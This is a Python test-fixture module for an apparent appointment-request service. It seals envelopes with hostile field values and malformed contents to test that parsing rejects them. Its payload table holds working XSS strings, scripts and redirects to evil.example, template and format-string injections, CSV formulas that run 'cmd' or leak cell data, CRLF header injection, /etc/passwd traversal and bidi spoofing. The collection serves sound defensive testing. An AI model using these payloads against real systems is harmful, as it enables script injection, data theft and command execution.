"""What somebody may write who seals envelopes by hand: texts for every field, parts that hold no
request, and replies of their own. Nothing of this passes request.parse, and all of it is stored."""

import json
from collections.abc import Mapping
from dataclasses import replace
from typing import Any

from quietdesk import envelopes, request, weeks
from quietdesk.envelopes import PART_BYTES, WAITING, Envelope
from quietdesk.errors import TooLong
from quietdesk.request import ANY, Request
from quietdesk.wire import b64
from tests.world import NOON, World, any_secrets

# Name of the attack: the text. Longer than a part is cut to what fits.
PAYLOADS: Mapping[str, str] = {
    "script element": "<script>document.title='owned'</script>",
    "script in upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "image with a handler": "<img src=x onerror=alert(1)>",
    "svg with a handler": "<svg/onload=alert(1)>",
    "details that open themselves": "<details open ontoggle=alert(1)>x</details>",
    "iframe with a document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object with data": "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "style that hides": "<style>*{display:none}</style>",
    "base element": "<base href='https://evil.example/'>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "form of its own": "<form action='https://evil.example/'><button>Unlock</button></form>",
    "link with a script": "<a href='javascript:alert(1)'>click</a>",
    "end of the row": "</td></tr></table></form><h1>The desk is locked</h1>",
    "end of the title": "</title><script>alert(1)</script>",
    "end of the list": "</option></select><img src=x onerror=alert(1)>",
    "comment that swallows": "<!-- ",
    "out of double quotes": '" autofocus onfocus="alert(1)" x="',
    "out of single quotes": "' autofocus onfocus='alert(1)' x='",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    "half an entity": "&#x3c;img src=x onerror=alert(1)&#x3e",
    "template expression": "{{ 7 * 7 }}{% for x in cycler.__init__ %}{{ x }}{% endfor %}",
    "format string": "{0.__class__.__mro__}{name}{}",
    "percent format": "%s%n%(name)s%00",
    "csv formula": '=HYPERLINK("https://evil.example/?"&A1;"open")',
    "csv formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv formula with plus": "+1+cmd|' /C calc'!A0",
    "csv formula with tab": "\t=1+1",
    "bidi override": "Ana \u202e>tpircs< gnp.exe",
    "bidi isolate left open": "\u2067\u2067\u2067 Ana",
    "bidi marks": "Ana\u200f\u200e\u061c Reyes",
    "control characters": "Ana\x00\x07\x08\x1b[2J\x1b]0;owned\x07\x7f\x9b",
    "line breaks": "Ana\r\n\r\nSet-Cookie: a=b\u2028\u2029\x0b\x0c",
    "a thousand combining marks": "A" + "\u0301\u0336\u0489\u0353" * 250,
    "a word without an end": "W" * 900,
    "a letter as wide as a line": "\ufdfd" * 300,
    "invisible letters": "\u200b\u2060\ufeff\u00ad\u3164",
    "letters that look like others": "Аnа Rеyеs \U000e0041\U000e0042 \U0001f468\u200d\U0001f469",
    "what is no letter": "\ufffe\uffff\U0010ffff\ue000",
    "deep json": "[" * 400 + "]" * 400,
    "a path and a query": "../../etc/passwd?id=1&token=2#x\\..\\",
}

# Text-bearing fields. `opening` must be the one outside, or the request does not open.
FIELDS = (
    "name", "phone", "centers", "windows", "language", "visit_type", "access", "reach",
    "phone_owner",
)  # fmt: skip

BENIGN = Request(
    centers=("corona",),
    windows=(ANY,),
    opening=None,
    people=1,
    children=0,
    visit_type="new",
    language="en",
    access=("quiet",),
    name="Benign",
    reach=("call",),
    phone="7185550100",
    phone_owner="mine",
)


def sealed_with(world: World, field: str, text: str) -> Envelope:
    """An envelope whose request has the text in that field, as much of it as fits."""
    many = isinstance(getattr(BENIGN, field), tuple)
    key = any_secrets()
    for length in range(len(text), 0, -1):
        cut = text[:length]
        asked = replace(BENIGN, **{field: (cut,) if many else cut})
        try:
            parts = request.pack(asked, key.reply)
        except TooLong:
            continue
        return _admitted(world, envelopes.seal(parts, world.bundle(), key))
    raise AssertionError("nothing of it fits")


def sealed_parts(world: World, **texts: bytes) -> Envelope:
    """An envelope whose parts hold these bytes, padded with spaces."""
    key = any_secrets()
    good = request.pack(BENIGN, key.reply)
    padded = {name: data.ljust(PART_BYTES)[:PART_BYTES] for name, data in texts.items()}
    return _admitted(world, envelopes.seal(replace(good, **padded), world.bundle(), key))


def sealed_reply(world: World, reply: Mapping[str, Any] = WAITING) -> Envelope:
    """An envelope with a benign request, of who looks only with the code, and a reply that its
    sender wrote."""
    key = any_secrets()
    quiet = replace(BENIGN, reach=(), phone="", phone_owner="")
    parts = request.pack(quiet, key.reply)
    return _admitted(world, envelopes.seal(parts, world.bundle(), key, reply=reply))


def spoiled(envelope: Envelope) -> Envelope:
    """The envelope with another byte in what is sealed: of the right size, and nobody opens it."""
    sealed = envelope.visit.sealed
    flipped = sealed[:-1] + bytes([sealed[-1] ^ 1])
    return replace(envelope, visit=replace(envelope.visit, sealed=flipped))


def malformed(world: World) -> dict[str, Envelope]:
    """Envelopes that hold no request, by what is wrong with them."""
    good = sealed_with(world, "name", "Benign")
    contact = {"reach": [], "phone": "", "phone_owner": "", "reply_key": b64(bytes(32))}
    deep = b"[" * 512 + b"]" * 512
    return {
        "not json": sealed_parts(world, visit=b"\xff\xfe not json"),
        "nothing": sealed_parts(world, visit=b""),
        "deep list": sealed_parts(world, visit=deep),
        "deep mapping": sealed_parts(world, contact=b'{"a":' * 200 + b"1" + b"}" * 24),
        "a number": sealed_parts(world, visit=b"1e999"),
        "another field": sealed_parts(
            world, contact=json.dumps({**contact, "nationality": "x"}).encode()
        ),
        "a field too few": sealed_parts(world, contact=b"{}"),
        "half a surrogate pair": sealed_parts(
            world, contact=json.dumps({**contact, "phone": "\ud83d"}).encode()
        ),
        "another kind": sealed_parts(world, contact=json.dumps({**contact, "phone": 7}).encode()),
        "another id": replace(good, id=bytes(16)),
        "cut short": replace(good, id=bytes([1] * 16), visit=replace(good.visit, sealed=b"x")),
        "a key that is none": replace(
            good, id=bytes([2] * 16), contact=replace(good.contact, kid="main.contact.x")
        ),
        "another opening outside": replace(
            good, id=bytes([3] * 16), opening="corona.2026-11-23.0900"
        ),
        "born never": replace(good, id=bytes([4] * 16), born="9999-W99"),
    }


def _admitted(world: World, envelope: Envelope) -> Envelope:
    week = weeks.epoch_at(NOON, world.city.zone)
    end = weeks.expires(week, week, world.city.zone, world.city.serve_days)
    return envelopes.admitted(envelope, "P", end)
